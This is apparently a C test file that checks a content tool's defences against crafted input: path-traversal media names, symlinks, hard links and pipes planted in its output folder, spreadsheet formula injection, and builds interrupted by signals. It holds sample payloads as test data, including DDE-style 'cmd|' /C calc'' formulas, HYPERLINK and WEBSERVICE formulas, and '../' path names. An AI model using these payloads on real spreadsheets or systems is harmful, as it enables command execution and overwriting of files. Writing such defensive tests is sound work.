/* The staff tool against what someone may plant for it (issue 12, items 8
 * and 13): a content file crafted so that `dump` writes outside its
 * folder, links and pipes planted in that folder, texts that a spreadsheet
 * would run as formulas, and a build stopped by a signal half-way.
 * Content files are crafted as an attacker would, with the sqlite3 shell
 * and CHECK constraints off; signals are real kill()s of the real tool. */
#include <errno.h>
#include <signal.h>
#include <spawn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "helpers.h"
#include "rules.h"

#define TOOL "build/wegweiser-content"

/* The mini sources built into dir/mini.db; returns its path. */
static char *mini_db(const char *dir)
{
	char *db = path_join(dir, "mini.db");
	struct tool_result r = tool_run("build", MINI_SOURCES, db, NULL);
	cr_assert_eq(r.status, 0, "%s", r.err);
	tool_result_free(&r);
	return db;
}

/* Runs SQL on a content file as someone tampering with it would. */
static void tamper(const char *db, const char *sql)
{
	char *dir = scratch_dir(), *script = path_join(dir, "t.sql");
	char text[4096];
	snprintf(text, sizeof text, "PRAGMA ignore_check_constraints = ON;\n%s;\n", sql);
	write_file(script, text, strlen(text));
	cr_assert_eq(shell("sqlite3 '%s' < '%s'", db, script), 0, "cannot tamper: %s", sql);
	free(script);
	scratch_remove(dir);
}

/* ---- item 8: a media name that climbs out of OUT_DIR ------------------------ */

/* The media name is RULE_SLUG in the field table: build and check refuse
 * a name with '/' or '.' in it, each with its own message. */
LEAKFREE_TEST(crafted, build_and_check_refuse_a_media_name_that_is_a_path)
{
	char *dir = scratch_dir(), *src = path_join(dir, "src"), *out = path_join(dir, "out.db");
	cr_assert_eq(shell("mkdir '%s'", src), 0);
	copy_sources(MINI_SOURCES, src);
	char *media = path_join(src, "media.csv"), *texts = path_join(src, "media_texts.csv");
	replace_in_file(media, "punkt,", "../../../tmp/x,");
	replace_in_file(texts, "punkt,de", "../../../tmp/x,de");
	struct tool_result r = tool_run("build", src, out, NULL);
	cr_assert_eq(r.status, 1, "build took it:\n%s", r.err);
	cr_assert(strstr(r.err, "media.csv:2:1: error: name: \"../../../tmp/x\" may only contain a-z, 0-9 and '-'"),
		  "%s", r.err);
	cr_assert_not(file_exists(out));
	tool_result_free(&r);

	char *db = mini_db(dir);
	tamper(db, "UPDATE media SET name = '../../../tmp/x'");
	r = tool_run("check", db, NULL);
	cr_assert_eq(r.status, 1, "check took it:\n%s", r.err);
	cr_assert(strstr(r.err, "error: media ../../../tmp/x: name \"../../../tmp/x\" may only contain a-z, 0-9 and '-'"),
		  "%s", r.err);
	tool_result_free(&r);
	free(media), free(texts), free(src), free(out), free(db);
	scratch_remove(dir);
}

/* dump checks every name it makes a file of, before it writes anything:
 * a crafted file leaves nothing outside OUT_DIR, and no OUT_DIR at all. */
LEAKFREE_TEST(crafted, dump_writes_no_file_for_a_name_that_is_a_path)
{
	static const char *names[] = {"../../../esc", "../esc", "a/../../esc", "..", ".hidden", "x\x1b[31mred"};
	for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
		char *dir = scratch_dir(), *db = mini_db(dir), *deep = path_join(dir, "a/b/c");
		char sql[256];
		snprintf(sql, sizeof sql, "UPDATE media SET name = '%s' WHERE id = 1", names[i]);
		tamper(db, sql);
		cr_assert_eq(shell("mkdir -p '%s'", deep), 0);
		char *out = path_join(deep, "out");
		int entries = count_entries(dir);
		struct tool_result r = tool_run("dump", db, out, NULL);
		cr_assert_eq(r.status, 1, "%s: dumped:\n%s", names[i], r.err);
		cr_assert(strstr(r.err, "error: media: the image with id 1: name \""), "%s: %s", names[i], r.err);
		cr_assert(strstr(r.err, "so dump writes no file of that name"), "%s: %s", names[i], r.err);
		cr_assert_null(strchr(r.err, '\x1b'), "an escape code reached the terminal: %s", r.err);
		cr_assert_not(file_exists(out), "%s: OUT_DIR was made", names[i]);
		cr_assert_eq(count_entries(dir), entries, "%s: something was written", names[i]);
		cr_assert_neq(shell("find '%s' -name 'esc*' | grep -q .", dir), 0, "%s: a file escaped", names[i]);
		tool_result_free(&r);
		free(out), free(deep), free(db);
		scratch_remove(dir);
	}
}

/* What someone may have planted in OUT_DIR before staff dump into it: a
 * link to a file of theirs, a link for the media folder, a named pipe (on
 * which a plain open would wait for ever), a hard link. dump refuses each,
 * at once, and the file behind it stays as it was. */
LEAKFREE_TEST(crafted, dump_writes_through_no_link_or_pipe_planted_in_out_dir, .timeout = 60)
{
	static const struct {
		const char *plant, *message;
	} cases[] = {
		{"ln -s VICTIM OUT/topics.csv", "topics.csv: error: cannot write: it is a symbolic link"},
		{"ln -s VICTIM OUT/meta.csv", "meta.csv: error: cannot write: it is a symbolic link"},
		{"ln -s ELSEWHERE OUT/media", "media: error: cannot write into it: it is a symbolic link or not a folder"},
		{"mkdir OUT/media && ln -s VICTIM OUT/media/punkt.png", "punkt.png: error: cannot write: it is a symbolic link"},
		{"mkfifo OUT/aliases.csv", "aliases.csv: error: cannot write: it is a named pipe"},
		{"ln VICTIM OUT/groups.csv", "groups.csv: error: cannot write: it has other names (hard links)"},
	};
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		char *dir = scratch_dir(), *db = mini_db(dir);
		char *out = path_join(dir, "out"), *victim = path_join(dir, "victim"), *elsewhere = path_join(dir, "elsewhere");
		write_file(victim, "the staff's own file\n", 21);
		cr_assert_eq(shell("mkdir '%s' '%s'", out, elsewhere), 0);
		const char *name[] = {"VICTIM", "ELSEWHERE", "OUT"}, *value[] = {victim, elsewhere, out};
		char *plant = expand(cases[i].plant, name, value, 3);
		cr_assert_eq(shell("%s", plant), 0, "%s", plant);
		char *before = sha256_file(victim);
		struct tool_result r = tool_run("dump", db, out, NULL);
		cr_assert_eq(r.status, 1, "%s: dumped:\n%s", plant, r.err);
		cr_assert(strstr(r.err, cases[i].message), "%s: expected \"%s\" in\n%s", plant, cases[i].message, r.err);
		char *after = sha256_file(victim);
		cr_assert_str_eq(after, before, "%s: the file behind it changed", plant);
		cr_assert_eq(count_entries(elsewhere), 0, "%s: written into the linked folder", plant);
		tool_result_free(&r);
		free(after), free(before), free(plant), free(elsewhere), free(victim), free(out), free(db);
		scratch_remove(dir);
	}
}

/* ---- item 13: spreadsheet formulas ---------------------------------------- */

/* What starts like a formula and what is text (the choice is explained at
 * rule_spreadsheet_formula() in kiosk/rules.c). */
LEAKFREE_TEST(crafted, which_texts_start_like_a_spreadsheet_formula)
{
	static const char *formulas[] = {
		"=HYPERLINK(\"https://example.org/?\"&A1,\"Klick\")", "=1+1", "@SUM(A1:A9)", "\t=1+1", "\tText",
		"\rText", "\nText", "  =1+1", "+HYPERLINK(\"https://example.org\")", "-HYPERLINK(\"https://example.org\")",
		"+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "- 1+'\\\\server\\share\\[x.xlsx]S'!A1",
		"- WEBSERVICE(\"https://example.org\")", "-A1", "+A1", "--1", "-=1", "+@x", "- Beratung (kostenlos)",
	};
	static const char *texts[] = {
		"Diabetes", "- Beratung", "- Erste Zeile\n- zweite Zeile", "+49 30 23125 100", "-20 % für Mitglieder",
		"-", "+", "", "Treffen (jeden Dienstag)!", "1+1", "E-Mail: a@example.org", "x=1", " Text",
	};
	for (size_t i = 0; i < sizeof formulas / sizeof *formulas; i++) {
		const char *why = rule_spreadsheet_formula(formulas[i]);
		cr_assert(why && strstr(why, "starts like a spreadsheet formula"), "taken for text: \"%s\"", formulas[i]);
	}
	for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
		cr_assert_null(rule_spreadsheet_formula(texts[i]), "taken for a formula: \"%s\"", texts[i]);
}

/* build refuses a formula with FILE:LINE:COLUMN and a sentence staff
 * understand, and takes a list dash, a phone number in a phone field and
 * a phone number in a text. */
LEAKFREE_TEST(crafted, build_refuses_a_formula_and_takes_dashes_and_numbers)
{
	char *dir = scratch_dir(), *src = path_join(dir, "src"), *out = path_join(dir, "out.db");
	cr_assert_eq(shell("mkdir '%s'", src), 0);
	copy_sources(MINI_SOURCES, src);
	char *texts = path_join(src, "topic_texts.csv"), *cps = path_join(src, "contact_points.csv");
	replace_in_file(texts, "diabetes,en,Diabetes,", "diabetes,en,\"=HYPERLINK(\"\"https://example.org\"\")\",");
	struct tool_result r = tool_run("build", src, out, NULL);
	cr_assert_eq(r.status, 1, "build took it:\n%s", r.err);
	cr_assert(strstr(r.err, "topic_texts.csv:3:3: error: name: \"=HYPERLINK(\"https://example.org\")\" starts like a"
				" spreadsheet formula (with = or @), which Excel or LibreOffice would run when they open"
				" the CSV file; begin it with a word"), "%s", r.err);
	cr_assert_not(file_exists(out));
	tool_result_free(&r);

	replace_in_file(texts, "\"=HYPERLINK(\"\"https://example.org\"\")\"", "\"- Diabetes\"");
	replace_in_file(texts, "Too much sugar in the blood. The group talks about everyday life with it.",
			"\"- Too much sugar\n- +49 30 23125 100\n-\"");
	replace_in_file(cps, "030 23125 100", "+49 30 23125 100");
	r = tool_run("build", src, out, NULL);
	cr_assert_eq(r.status, 0, "refused:\n%s", r.err);
	tool_result_free(&r);
	r = tool_run("check", out, NULL);
	cr_assert_eq(r.status, 0, "%s", r.err);
	tool_result_free(&r);
	free(texts), free(cps), free(src), free(out);
	scratch_remove(dir);
}

/* A formula that a content file still holds (it fails check) is dumped
 * with a ' in front, with a warning naming file, line and column; the
 * sqlite3 shell, reading the dump as CSV, finds no cell that starts like a
 * formula. */
LEAKFREE_TEST(crafted, dump_neutralises_a_formula_it_still_meets)
{
	char *dir = scratch_dir(), *db = mini_db(dir), *out = path_join(dir, "out");
	tamper(db, "UPDATE topic_text SET name = '=HYPERLINK(\"https://example.org/?\"&A1,\"Klick\")'"
		   " WHERE lang = 'en' AND topic_id = (SELECT id FROM topic WHERE slug = 'diabetes');"
		   " UPDATE page_text SET body = '-2+3+cmd|'' /C calc''!A0' WHERE lang = 'de';"
		   " UPDATE page_text SET body = 'Erste Zeile' || char(10) || '=1+1' WHERE lang = 'en';"
		   " UPDATE meta SET title = '@SUM(1)';"
		   " UPDATE contact_point SET phone_shown = '-HYPERLINK(\"https://example.org\")' WHERE id = 1");
	struct tool_result r = tool_run("dump", db, out, NULL);
	cr_assert_eq(r.status, 0, "%s", r.err);
	cr_assert(strstr(r.out, "written (4 warnings)"), "%s", r.out);
	static const char *warnings[] = {
		"meta.csv:2:2: warning: title: \"@SUM(1)\" starts like a spreadsheet formula",
		"topic_texts.csv:3:3: warning: name: \"=HYPERLINK(",
		"contact_points.csv:2:6: warning: phone: \"-HYPERLINK(",
		"page_texts.csv:2:4: warning: body: \"-2+3+cmd|' /C calc'!A0\" starts like a spreadsheet formula",
	};
	for (size_t i = 0; i < sizeof warnings / sizeof *warnings; i++)
		cr_assert(strstr(r.err, warnings[i]), "expected \"%s\" in\n%s", warnings[i], r.err);
	cr_assert(strstr(r.err, "written with a ' in front, so that a spreadsheet shows it as text"), "%s", r.err);
	/* The en text's second line is no cell of its own: a cell's start
	 * counts, and that is "Erste Zeile". */
	cr_assert_null(strstr(r.err, "Erste Zeile"), "%s", r.err);
	static const char *files[] = {"meta.csv", "topic_texts.csv", "contact_points.csv", "page_texts.csv"};
	for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
		char *csv = path_join(out, files[i]);
		cr_assert_eq(shell("sqlite3 -json :memory: '.import --csv %s t' 'SELECT * FROM t'"
				   " | grep -E '\":\" *([=@]|[-+][^0-9 \"]|[-+][^\"]*[(|!])'", csv), 1,
			     "%s holds a cell that starts like a formula", files[i]);
		free(csv);
	}
	cr_assert_eq(shell("grep -q \"^title,'@SUM(1)$\" %s/meta.csv", out), 0);
	cr_assert_eq(shell("grep -qF \"diabetes,en,\\\"'=HYPERLINK(\" %s/topic_texts.csv", out), 0);
	cr_assert_eq(shell("grep -qF \"'-HYPERLINK(\" %s/contact_points.csv", out), 0);
	tool_result_free(&r);
	free(out), free(db);
	scratch_remove(dir);
}

/* ---- item 13: a build stopped by a signal ---------------------------------- */

/* Starts the real tool with every signal at its default disposition (the
 * test runner's may differ); returns its pid. */
static pid_t spawn_tool(char *const argv[])
{
	posix_spawnattr_t attr;
	sigset_t stopping, none;
	pid_t pid;
	extern char **environ;
	sigemptyset(&stopping);
	sigaddset(&stopping, SIGTERM);
	sigaddset(&stopping, SIGINT);
	sigaddset(&stopping, SIGHUP);
	sigemptyset(&none);
	posix_spawnattr_init(&attr);
	posix_spawnattr_setsigdefault(&attr, &stopping);
	posix_spawnattr_setsigmask(&attr, &none);
	posix_spawnattr_setflags(&attr, POSIX_SPAWN_SETSIGDEF | POSIX_SPAWN_SETSIGMASK);
	cr_assert_eq(posix_spawn(&pid, TOOL, NULL, &attr, argv, environ), 0, "cannot start " TOOL);
	posix_spawnattr_destroy(&attr);
	return pid;
}

/* The number of OUT.db.tmp-* files (and their journals) in dir. */
static int temporaries(const char *dir)
{
	return shell("exit $(ls '%s' | grep -c 'out.db.tmp-')", dir);
}

static void sleep_ms(long ms)
{
	struct timespec t = {ms / 1000, (ms % 1000) * 1000000L};
	nanosleep(&t, NULL);
}

/* The generated 100,000 groups take seconds to build: a SIGTERM or a
 * Ctrl+C (SIGINT) half-way ends the build with that signal, removes its
 * temporary file and journal, and leaves the existing OUT.db byte for
 * byte. */
LEAKFREE_TEST(crafted, a_signal_half_way_leaves_no_temporary_file, .timeout = 300)
{
	char *dir = scratch_dir(), *big = path_join(dir, "big"), *out = path_join(dir, "out.db");
	cr_assert_eq(shell(TOOL " generate --groups 100000 --topics 2000 --contact-points 320 --seed 1 %s >/dev/null", big),
		     0);
	struct tool_result r = tool_run("build", MINI_SOURCES, out, NULL);
	cr_assert_eq(r.status, 0, "%s", r.err);
	tool_result_free(&r);
	char *before = sha256_file(out);
	static const int signals[] = {SIGTERM, SIGINT};
	for (size_t i = 0; i < sizeof signals / sizeof *signals; i++) {
		char *argv[] = {TOOL, "build", big, out, NULL};
		pid_t pid = spawn_tool(argv);
		/* Half-way: the temporary file is there and the build goes on. */
		int waited = 0, status = 0;
		while (temporaries(dir) == 0 && waited < 60000) {
			sleep_ms(20);
			waited += 20;
		}
		cr_assert_gt(temporaries(dir), 0, "no temporary file appeared");
		sleep_ms(500);
		cr_assert_eq(waitpid(pid, &status, WNOHANG), 0, "the build ended before the signal");
		cr_assert_eq(kill(pid, signals[i]), 0);
		cr_assert_eq(waitpid(pid, &status, 0), pid);
		cr_assert(WIFSIGNALED(status) && WTERMSIG(status) == signals[i],
			  "signal %d: the build did not end by it (status %#x)", signals[i], status);
		cr_assert_eq(temporaries(dir), 0, "signal %d left a temporary file", signals[i]);
		char *after = sha256_file(out);
		cr_assert_str_eq(after, before, "signal %d: out.db changed", signals[i]);
		free(after);
	}
	free(before), free(out), free(big);
	scratch_remove(dir);
}

/* Within the program, a build that ended gives the signals back: the
 * process that ran it (these tests, the kiosk's tool) is stopped by them
 * as before. */
LEAKFREE_TEST(crafted, a_build_gives_the_signals_back)
{
	struct sigaction before[2], after[2];
	static const int signals[] = {SIGTERM, SIGINT};
	for (int i = 0; i < 2; i++)
		sigaction(signals[i], NULL, &before[i]);
	char *dir = scratch_dir(), *out = path_join(dir, "out.db");
	struct tool_result r = tool_run("build", MINI_SOURCES, out, NULL);
	cr_assert_eq(r.status, 0, "%s", r.err);
	tool_result_free(&r);
	for (int i = 0; i < 2; i++) {
		sigaction(signals[i], NULL, &after[i]);
		cr_assert(after[i].sa_handler == before[i].sa_handler, "signal %d still caught by build", signals[i]);
	}
	free(out);
	scratch_remove(dir);
}
